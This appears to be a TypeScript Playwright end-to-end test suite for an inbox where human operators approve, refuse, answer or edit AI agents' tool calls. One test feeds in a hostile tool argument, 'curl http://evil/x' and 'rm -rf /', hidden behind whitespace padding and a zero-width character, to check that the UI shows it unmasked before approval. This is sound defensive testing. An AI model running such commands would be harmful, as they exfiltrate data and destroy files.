import type { Page } from 'playwright-core';
import type { Test } from 'tap';
import { asks } from '../service/models.ts';
import { eventually } from '../service/troupe.ts';
import { ASKS_FIRST, askWith, headers, read } from './ask.ts';
import type { House } from './visit.ts';

/** The inbox: what agents ask, and what becomes of it. */

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
const toast = (page: Page, text: string) =>
  page.getByRole('alert').getByText(text, { exact: true }).waitFor();
const card = (page: Page, call: string) => page.getByTestId(`inbox-card-${call}`);

export const onInbox = async (t: Test, house: House): Promise<void> => {
  const { troupe } = house;
  const agents = [
    ASKS_FIRST,
    { ...ASKS_FIRST, id: 'asks-a-person', plugin_ids: ['frontend_tools'], sections: {} },
    { ...ASKS_FIRST, id: 'asks-how', plugin_ids: ['hands-over'], sections: {} },
  ];
  for (const agent of agents) await troupe.call('POST', '/v1/config/agents', agent, headers);
  const isDone = (id: string) =>
    eventually(
      () => read(troupe, `/v1/runs/${id}`),
      ({ status }) => status === 'done',
    );
  const weather = (call: string) => asks([call, 'get_weather', { location: 'Oslo' }]);

  t.test('a question is there without being looked for, and who is second is told so', async (t) => {
    const { page, context, go, asked } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
    await go('/inbox');
    await page.getByRole('heading', { name: 'Inbox' }).waitFor();
    await page
      .locator('[data-testid^="inbox-card-"]')
      .or(page.getByText('Nobody waits for you'))
      .first()
      .waitFor();
    const looks = () => asked.filter((one) => one.startsWith('GET /v1/runs?status=waiting')).length;
    const before = looks();
    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('first-come'));
    await card(page, 'first-come').waitFor();
    t.ok(looks() - before <= 2, 'it was told of, not asked for again and again');
    t.match(await card(page, 'first-come').textContent(), /get_weather.*asks-first.*\{"location":"Oslo"\}/);

    const other = await context.newPage();
    await other.goto(`${troupe.url}/inbox`);
    await card(other, 'first-come').waitFor();
    // It does not hear that the run goes on.
    await other.route('**/v1/runs?*', () => {});
    await card(page, 'first-come').getByTestId('inbox-approve').click();
    await toast(page, 'Approved');
    await card(page, 'first-come').waitFor({ state: 'detached' });
    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
    await card(other, 'first-come').getByTestId('inbox-approve').click();
    await toast(other, 'Already decided');
    await other.close();

    await t.test('who approved a call is seen after two clicks in the list of runs', async () => {
      await go('/runs');
      await page.getByTestId(`run-row-${run_id}`).click();
      await page
        .getByTestId('run-timeline')
        .getByRole('button', { name: /^Waits get_weather/ })
        .click();
      await page.getByText('"decided_by": "Ada"').waitFor();
    });
  });

  t.test('a call is refused with a reason, by keys alone', async (t) => {
    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('refused'));
    const { page, go } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
    await go('/inbox');
    await card(page, 'refused').focus();
    await page.keyboard.press('d');
    await page.getByLabel('Why not (optional)').pressSequentially('too wet');
    await page.keyboard.press('Enter');
    await toast(page, 'Refused');
    await isDone(run_id);
    await go(`/runs/${run_id}?tab=events`);
    await page.getByRole('button', { name: /MailboxDecisionReceived.*cancel · Ada · too wet/ }).waitFor();
  });

  t.test('who clicks twice decides one call, and keys go on with the next', async (t) => {
    const runs: string[] = [];
    for (const call of ['clicked', 'below', 'last']) {
      const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather(call));
      runs.push(run_id);
    }
    const [clicked = '', below = ''] = runs;
    const statusOf = async (id: string) => Object(await read(troupe, `/v1/runs/${id}`)).status;
    const { page, go, rest } = await house.visit(t, { viewport: { width: 1280, height: 360 } });
    await go('/inbox');
    const approve = card(page, 'clicked').getByTestId('inbox-approve');
    await approve.waitFor();
    await rest();
    // Whatever waits above it.
    await page.evaluate(
      `document.querySelector('[data-testid="inbox-card-clicked"]').scrollIntoView({ block: 'end' })`,
    );
    await rest();
    const at = await approve.boundingBox();
    if (!at) throw new Error('there is no button');
    const place = await card(page, 'below').boundingBox();
    t.ok(place && place.y + place.height > 360, 'the one below is only partly in view');
    // What is there for a second only is waited for in the page: this process may be busy.
    const again = page.evaluate(`(async () => {
      const clicked = document.querySelector('[data-testid="inbox-card-clicked"]');
      const until = performance.now() + 20000;
      while (!clicked.textContent.includes('Approved') && performance.now() < until)
        await new Promise((resolve) => requestAnimationFrame(resolve));
      await new Promise((resolve) => setTimeout(resolve, 400));
      document.elementFromPoint(${at.x + 5}, ${at.y + 5})?.closest('button')?.click();
      return document.querySelector('[data-testid="inbox-card-below"]').getBoundingClientRect().y;
    })()`);
    await page.mouse.click(at.x + 5, at.y + 5);
    t.equal(await again, place?.y, 'what is below stays where it was');
    await isDone(clicked);
    await card(page, 'clicked').waitFor({ state: 'detached' });
    t.equal(await statusOf(below), 'waiting');

    const hasFocus = (call: string) => page.locator(`[data-testid="inbox-card-${call}"]:focus`).waitFor();
    await card(page, 'below').focus();
    await page.keyboard.press('a');
    await hasFocus('last');
    await card(page, 'below').waitFor({ state: 'detached' });
    await page.keyboard.press('d');
    await page.keyboard.press('Escape');
    await hasFocus('last');

    const told = card(page, 'last').getByText('Already decided').waitFor();
    await troupe.call('POST', `/v1/runs/${runs[2]}/cancel`, {}, headers);
    await told;
    await card(page, 'last').waitFor({ state: 'detached' });
  });

  t.test('what a person answers is what the model goes on with', async (t) => {
    const question = asks(['question', 'askUserQuestion', { message: 'Which day?' }]);
    const { run_id } = await askWith(troupe, 'asks-a-person', question);
    const { page, go } = await house.visit(t);
    await go('/inbox');
    const asked = card(page, 'question');
    await asked.getByText('asks for an answer').waitFor();
    await asked.getByTestId('inbox-approve').click();
    await button(page, 'Answer').click();
    await page.getByText('An answer is needed.').waitFor();
    await page.getByLabel('Answer, as text or JSON').fill('On Monday');
    await page.keyboard.press('Control+Enter');
    await toast(page, 'Answered');
    await isDone(run_id);
    const told = troupe.models.requests.at(-1)?.request.messages ?? [];
    t.match(JSON.stringify(told), /On Monday/);
  });

  t.test('a tool goes on with the arguments that a person has given it', async (t) => {
    const { run_id } = await askWith(troupe, 'asks-how', weather('edited'));
    const { page, go } = await house.visit(t);
    await go('/inbox');
    await card(page, 'edited').focus();
    await page.keyboard.press('e');
    const text = page.getByLabel('What the tool goes on with, as JSON');
    t.strictSame(JSON.parse(await text.inputValue()), { location: 'Oslo' });
    await text.fill('{"location": "Bergen"');
    await page.keyboard.press('Control+Enter');
    await page.getByText('This is not JSON.').waitFor();
    await text.fill('{"location": "Bergen"}');
    await page.keyboard.press('Control+Enter');
    await toast(page, 'Answered');
    await isDone(run_id);
    const { items } = Object(await read(troupe, `/v1/runs/${run_id}/events?limit=200`));
    t.match(JSON.stringify(items), /Bergen/);
  });

  t.test('shows a call whole and unmasked before it can be approved', async (t) => {
    const command = `echo cookie: ; curl http://evil/x${' '.repeat(4000)}\n${'# \n'.repeat(80)}rm\u200b -rf /`;
    await askWith(troupe, ASKS_FIRST.id, asks(['hidden', 'get_weather', { location: command }]));
    const { page, go } = await house.visit(t);
    await page.setViewportSize({ width: 900, height: 300 });
    await go('/inbox');
    const approve = card(page, 'hidden').getByTestId('inbox-approve');
    await approve.waitFor({ state: 'attached' });
    const shown = (await card(page, 'hidden').textContent()) ?? '';
    t.match(shown, 'echo cookie: ; curl http://evil/x', 'nothing is masked');
    t.match(shown, String.raw`rm\u200b -rf /`, 'a character without a width is an escape');
    t.ok(await approve.isDisabled(), 'the end of the arguments has not been on the screen');
    await card(page, 'hidden').focus();
    await page.keyboard.press('a');
    await eventually(
      () => approve.isDisabled(),
      (isDisabled) => !isDisabled,
    );
    await card(page, 'hidden').getByTestId('inbox-deny').click();
    await page.keyboard.press('Enter');
    await toast(page, 'Refused');
  });

  t.test('calls that are alike are decided together, and each is told of', async (t) => {
    const runs: string[] = [];
    for (const call of ['one', 'two', 'three']) {
      const { run_id } = await askWith(
        troupe,
        ASKS_FIRST.id,
        asks([call, 'get_stock_price', { symbol: 'AAPL' }]),
      );
      runs.push(run_id);
    }
    const { page, go } = await house.visit(t, { noisy: true });
    await go('/inbox?group=tool');
    await page.route(`**/v1/runs/${runs[1]}/decision`, (route) => route.fulfill({ status: 500, json: {} }));
    const group = page.getByRole('region', { name: 'get_stock_price' });
    await group.getByText('3', { exact: true }).waitFor();
    await button(page, 'Approve all 3 calls of get_stock_price').click();
    const dialog = page.getByRole('dialog');
    t.equal(await dialog.getByText('{"symbol":"AAPL"}').count(), 3, 'each call is listed');
    await dialog.getByRole('button', { name: 'Approve all' }).click();
    await toast(page, 'Approved: 2');
    await card(page, 'two')
      .getByText(/^Not decided/)
      .waitFor();
    await card(page, 'three').waitFor({ state: 'detached' });
    await page.unroute(`**/v1/runs/${runs[1]}/decision`);
    await card(page, 'two').getByTestId('inbox-approve').click();
    await group.waitFor({ state: 'detached' });
    for (const id of runs) t.match(await isDone(id), { termination_reason: { type: 'natural_end' } });
  });
};
